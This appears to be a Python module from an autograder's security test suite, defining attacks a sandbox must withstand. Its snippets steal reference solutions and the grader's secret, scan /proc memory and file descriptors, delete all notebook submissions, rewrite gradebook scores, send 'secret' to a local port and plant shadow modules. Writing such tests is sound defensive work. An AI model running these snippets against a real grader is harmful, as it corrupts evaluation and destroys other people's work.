"""Attacks on secrets: the reference, the seed, files, the environment, other submissions, the network."""

from __future__ import annotations

from .attack import CRASHED, ENDLESS, FULL, NOTHING, Attack, doing, of_cells

_AS_ANSWER = "return stolen if stolen is not None else (0 * X, 0 * W, 0 * dY.sum(axis=0))"

_REFERENCE_BY_FILE = """
for folder, below, names in os.walk("/"):
    below[:] = [name for name in below if name not in ("lib", "usr", "proc", "sys")]
    if "nb06.py" in names:
        scope = {}
        exec(open(os.path.join(folder, "nb06.py")).read(), scope)
        stolen = scope["EXERCISES"][0].reference(dY, X, W)
"""
_REFERENCE_BY_IMPORT = """
sys.meta_path[:] = [f for f in sys.meta_path if "andin" not in type(f).__module__]
for name in ("autograder", "backprop_course"):
    sys.modules.pop(name, None)
from autograder.exercises import find
stolen = find("NB06.E06").reference(dY, X, W)
"""
_ENGINE = """
from backprop_course import vjp
stolen = vjp(lambda X, W, b: X @ W + b, X, W, np.zeros(W.shape[1]))[1](dY)
"""
_OTHER_ENGINE = """
import torch
x, w = (torch.tensor(a, requires_grad=True) for a in (X, W))
(x @ w).backward(torch.tensor(dY))
stolen = x.grad.numpy(), w.grad.numpy(), dY.sum(axis=0)
"""
_FRAMES = """
frame = sys._getframe()
while frame:
    for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
        if callable(getattr(value, "reference", None)): stolen = value.reference(dY, X, W)
    frame = frame.f_back
for thing in gc.get_objects():
    if type(thing).__name__ in ("Exercise", "Trial", "Instance"): stolen = thing.right
"""
_PROC = """
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/mem"):
    if b"seed" in open(path, "rb").read(1 << 20): stolen = path
"""
_DESCRIPTORS = """
for number in range(3, 256):
    try:
        os.set_blocking(number, False)
        stolen = os.read(number, 1 << 16)
    except OSError: pass
"""
_MEMORY = """
import resource
code = open("/proc/self/maps").read()
"""
_SUBMISSIONS = """
for folder, below, names in os.walk("/"):
    below[:] = [name for name in below if name not in ("lib", "usr", "proc", "sys")]
    for name in names:
        if name.endswith(".ipynb"): os.remove(os.path.join(folder, name))
"""
_GRADES = """
for folder, below, names in os.walk("/"):
    below[:] = [name for name in below if name not in ("lib", "usr", "proc", "sys")]
    for name in names:
        path = os.path.join(folder, name)
        if name == "gradebook.db":
            with sqlite3.connect(path) as book: book.execute("update grade set auto_score = 99")
        if name == "journal.jsonl":
            open(path, "a").write("{}")
"""


def attacks(witness: str, port: int) -> list[Attack]:
    """The attacks; `witness` is a file that must stay, `port` where somebody listens on this machine."""
    return [
        doing("reference-by-file", _REFERENCE_BY_FILE, NOTHING, returns=_AS_ANSWER),
        doing("reference-by-import", _REFERENCE_BY_IMPORT, NOTHING, returns=_AS_ANSWER),
        doing("the-courses-engine", _ENGINE, NOTHING, returns=_AS_ANSWER),
        doing("another-engine", _OTHER_ENGINE, NOTHING, returns=_AS_ANSWER),
        doing("frames-and-garbage", _FRAMES, NOTHING, returns=_AS_ANSWER),
        doing("environment", "stolen = os.environ['SECRET_OF_THE_GRADER']", NOTHING, returns="return stolen"),
        doing("processes", _PROC),
        doing("descriptors", _DESCRIPTORS, NOTHING, CRASHED, ENDLESS, returns=_AS_ANSWER),
        doing("its-own-memory-map", _MEMORY),
        doing("removes-submissions", _SUBMISSIONS),
        doing("writes-grades", _GRADES, NOTHING, returns="return X, W, dY"),
        doing("reads-a-file-by-name", f"stolen = open({witness!r}).read()", NOTHING, returns="return stolen"),
        doing("writes-a-file-by-name", f"open({witness!r}, 'w').write('was here')"),
        doing("links-to-a-file", f"os.symlink({witness!r}, 'link'); open('link', 'w').write('was here')"),
        doing("tcp", f"socket.create_connection(('127.0.0.1', {port}), 0.5).sendall(b'secret')"),
        doing("udp", f"socket.socket(type=socket.SOCK_DGRAM).sendto(b'secret', ('127.0.0.1', {port}))"),
        doing("abstract-socket", rf"socket.socket(socket.AF_UNIX).connect('\0hostile-class-{port}')"),
        doing("name-look-up", "socket.getaddrinfo('localhost', 80)"),
        doing("shared-memory", "ctypes.CDLL(None).shmget(0x5EC2E7, 4096, 0o1666)"),
        doing("shared-file", "open('/dev/shm/hostile-class', 'w').write('was here')"),
        of_cells("leaves-modules-behind", LEFT_BEHIND, deserves=(FULL,)),
        of_cells("finds-modules-left-behind", FINDS),
    ]


LEFT_BEHIND = """
import os
for name in ("numpy.py", "affine.py", "/tmp/affine.py", "/private/affine.py"):
    try: open(name, "w").write("def affine_backward(dY, X, W): return dY @ W.T, X.T @ dY, dY.sum(axis=0)")
    except OSError: pass
def affine_backward(dY, X, W): return dY @ W.T, X.T @ dY, dY.sum(axis=0)
"""
FINDS = """
import sys
sys.path[:0] = [".", "/tmp", "/private"]
from affine import affine_backward
"""
